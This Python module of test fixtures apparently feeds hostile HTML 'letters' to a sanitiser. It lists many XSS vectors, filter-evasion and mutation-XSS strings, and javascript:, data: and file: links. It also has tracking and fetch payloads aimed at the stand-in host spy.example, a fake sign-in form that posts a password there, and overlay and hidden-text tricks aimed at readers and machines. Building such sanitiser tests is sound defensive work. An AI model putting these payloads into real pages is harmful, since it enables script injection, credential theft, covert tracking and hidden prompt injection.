"""Letters that try to act: to run something, fetch something, or cover the desk. All our own."""

SPY = "https://spy.example"

_RUNNING = [
    *(f"<{tag} {event}=alert(1)>x</{tag}>" for tag, event in [
        ("body", "onload"), ("svg", "onload"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("video", "onloadstart"),
        ("audio", "oncanplay"), ("div", "onpointerenter"), ("p", "onclick"), ("a", "onmouseover"),
        ("table", "onbeforeinput"), ("b contenteditable", "onblur"), ("iframe", "onload"),
        ("textarea autofocus", "onfocus"), ("object", "onerror"), ("embed", "onload"),
        ("form", "onsubmit"), ("button", "onclick"), ("dialog open", "onclose"),
        ("img src=x", "onerror"), ("IMG SRC=x", "oNeRrOr"), ("img/src=x", "onerror"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("script src=x", "onerror"),
        ("p style=animation-name:x", "onanimationstart"), ("x id=x tabindex=1", "onfocus"),
    ]),
    "<script>alert(1)</script>",
    "<SCRIPT\x0b>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:alert(1)'>",
    "<math><maction actiontype=statusline#http://x xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<template><script>alert(1)</script></template>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<xml onreadystatechange=alert(1)>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script type=module>alert(1)</script>",
]  # fmt: skip

_LEADING = [
    f"<a href='{address}'>Press here</a>"
    for address in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "blob:x", "file:///etc/passwd",
        "livescript:alert(1)", "view-source:x", "jar:x!/y", "//spy.example/x", "/accounts/logout/",
        "filesystem:x", "ms-its:x", "intent://x#Intent;end",
    )
]  # fmt: skip

_CHANGING = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=1'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<table><td><svg><desc><table><td><img src=x onerror=alert(1)>",
    "<p><svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<a title='`<img src=x onerror=alert(1)>`'>x</a>",
    "<img alt='`><script>alert(1)</script>' src=x>",
    "<b title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div\x00onclick=alert(1)>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
]

_FETCHING = [
    f"<img src={SPY}/1.gif width=1 height=1>",
    f"<img src=x srcset='{SPY}/2.gif 2x'>",
    f"<picture><source srcset={SPY}/3.webp><img src={SPY}/3.gif></picture>",
    f"<table background={SPY}/4.gif><td background={SPY}/5.gif>x</table>",
    f"<body background={SPY}/6.gif>",
    f"<link rel=stylesheet href={SPY}/7.css>",
    f"<link rel=prefetch href={SPY}/8><link rel=dns-prefetch href={SPY}>",
    f"<link rel=preconnect href={SPY}><link rel=icon href={SPY}/9.ico>",
    f"<style>@import url({SPY}/10.css);</style>",
    f"<style>@font-face{{font-family:x;src:url({SPY}/11.woff)}}p{{font-family:x}}</style><p>x</p>",
    f"<p style='background:url({SPY}/12.gif)'>x</p>",
    f"<p style='background-image:image-set(\"{SPY}/13.gif\" 1x)'>x</p>",
    f"<ul style='list-style:url({SPY}/14.gif)'><li>x</ul>",
    f"<p style='cursor:url({SPY}/15.cur),auto'>x</p>",
    f"<p style='border-image:url({SPY}/16.gif) 1'>x</p>",
    f"<p style='content:url({SPY}/17.gif)'>x</p>",
    f"<p style='-moz-binding:url({SPY}/18.xml)'>x</p>",
    f"<p style='filter:url({SPY}/19.svg#x)'>x</p>",
    f"<video src={SPY}/20.mp4 poster={SPY}/20.gif autoplay></video>",
    f"<audio src={SPY}/21.mp3 autoplay></audio>",
    f"<iframe src={SPY}/22></iframe><frameset><frame src={SPY}/23></frameset>",
    f"<object data={SPY}/24></object><embed src={SPY}/25>",
    f"<svg><image href={SPY}/26.svg /><use href={SPY}/27.svg#x /></svg>",
    f"<meta http-equiv=refresh content='0;url={SPY}/28'>",
    f"<base href={SPY}/><img src=29.gif>",
    f"<input type=image src={SPY}/30.gif>",
    f"<a ping={SPY}/31 href={SPY}/32>x</a>",
    f"<bgsound src={SPY}/33.wav><img dynsrc={SPY}/34.avi><img lowsrc={SPY}/35.gif>",
    f"<v:image src={SPY}/36.gif /><v:fill src={SPY}/37.gif />",
    f"<amp-img src={SPY}/38.gif width=1 height=1></amp-img>",
    f"<html manifest={SPY}/39><p>x",
    f"<track src={SPY}/40.vtt><source src={SPY}/41>",
    f"<img src='cid:nobody@x'><img src='data:image/svg+xml,<svg><image href={SPY}/42 /></svg>'>",
    f"<script src={SPY}/43.js></script>",
    f"<form action={SPY}/44 method=post><input name=password><button>Sign in</button></form>",
    f"<portal src={SPY}/45></portal>",
]

_COVERING = [
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in again</div>",
    "<div style='position:absolute;top:-500px;left:-500px;width:9999px;height:9999px'>x</div>",
    "<p style='font-size:9999px'>x</p>",
    "<p style='margin:-9999px;transform:scale(99)'>x</p>",
    "<style>*{display:none!important}</style><p>x</p>",
    "<style>body::after{content:'Paid';position:fixed;top:0}</style>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p>\u202eevil.example\u202c \u200bzero\u200bwidth\ufeff</p>",
    "<p style='color:#fff;font-size:0'>Hidden words for a machine</p>",
    "<a id=csrfmiddlewaretoken name=cookie href=#>x</a><form id=body name=forms></form>",
    "<div class='c-composer l-main' id=main>x</div>",
    "<dialog open style='inset:0'>Sign in again</dialog>",
]

LETTERS = [*_RUNNING, *_LEADING, *_CHANGING, *_FETCHING, *_COVERING]
